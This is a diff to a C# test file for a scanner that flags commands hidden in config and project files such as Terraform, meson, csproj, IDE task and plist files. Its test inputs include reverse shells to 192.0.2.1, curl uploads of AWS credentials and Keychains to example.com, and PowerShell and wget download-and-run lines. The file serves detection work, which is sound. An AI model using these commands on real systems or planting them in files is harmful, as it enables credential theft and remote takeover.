@@ -16,11 +16,16 @@ public sealed class StrayCommandTests
     [InlineData("tool.conf", "on_open = bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")]
     [InlineData("infra/main.tf", "data \"external\" \"a\" {\n  program = [\"bash\", \"-c\", \"curl -s -F f=@$HOME/.aws/credentials http://example.com/i\"]\n}\n")]
     [InlineData("meson.build", "s = run_command('perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new(\"192.0.2.1:8\");exec \"/bin/sh -i <&\".fileno($s)')\n")]
-    [InlineData(".idea/tasks.xml", "<?xml version=\"1.0\"?>\n<project><option name=\"arguments\" value=\"-c &quot;(wget -O- http://example.com/j) | sh&quot;\" /></project>\n")]
-    [InlineData("A.csproj", "<Project><Target Name=\"P\"><Exec Command=\"powershell -c &quot;iex ((New-Object Net.WebClient).DownloadString('http://example.com/a'))&quot;\" /></Target></Project>\n")]
-    [InlineData("Demo.terminal", "<plist version=\"1.0\"><dict><key>CommandString</key><string>cp -r ~/Library/Keychains /tmp/.k; zip -r /tmp/k.zip /tmp/.k; curl -F f=@/tmp/k.zip http://example.com</string></dict></plist>\n")]
     public void ACommandAmongSettingsIsTold(string name, string text) =>
         Assert.Contains("settings-hold-command", ModelRepository.Scan((name, text)).Telling.Select(f => f.Rule.Id));
+
+    /// <summary>XML is read as such, whatever its extension.</summary>
+    [Theory]
+    [InlineData("settings-hold-command", ".idea/tasks.xml", "<?xml version=\"1.0\"?>\n<project><option name=\"arguments\" value=\"-c &quot;(wget -O- http://example.com/j) | sh&quot;\" /></project>\n")]
+    [InlineData("shell-download-run", "A.csproj", "<Project><Target Name=\"P\"><Exec Command=\"powershell -c &quot;iex ((New-Object Net.WebClient).DownloadString('http://example.com/a'))&quot;\" /></Target></Project>\n")]
+    [InlineData("shell-takes-secrets", "Demo.terminal", "<plist version=\"1.0\"><dict><key>CommandString</key><string>cp -r ~/Library/Keychains /tmp/.k; zip -r /tmp/k.zip /tmp/.k; curl -F f=@/tmp/k.zip http://example.com</string></dict></plist>\n")]
+    public void ACommandInXmlIsTold(string rule, string name, string text) =>
+        Assert.Contains(rule, ModelRepository.Scan((name, text)).Telling.Select(f => f.Rule.Id));
 
     [Theory]
     [InlineData("notes.json", "{\"description\": \"Install it with curl -s http://example.com/x | sh, or by hand.\"}")]
@@ -28,6 +33,8 @@ public sealed class StrayCommandTests
     [InlineData("tool.yml", "fetch: curl -O https://example.com/weights.bin\nenv: HF_TOKEN\n")]
     [InlineData("a.conf", "# " + Fetched + "\nurl = https://example.com/a\ncurl = true\n")]
     [InlineData("notes.txt", Fetched + "\n")]
+    [InlineData("a.csproj", "<Project Sdk=\"Microsoft.NET.Sdk\"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup><Exec Command=\"dotnet --version\" /></Project>\n")]
+    [InlineData("a.vue", "<template>\n  <div v-if=\"a < b\">{{ a }}</div>\n</template>\n<script>export default {}</script>\n")]
     [InlineData("main.tf", "resource \"a\" \"b\" {\n  user_data = \"apt-get update\"\n  source = \"https://example.com/a.zip\"\n}\n")]
     public void WhatIsNoCommandOrDoesNoHarmIsNot(string name, string text) => Assert.Empty(ModelRepository.Scan((name, text)).Telling);
 
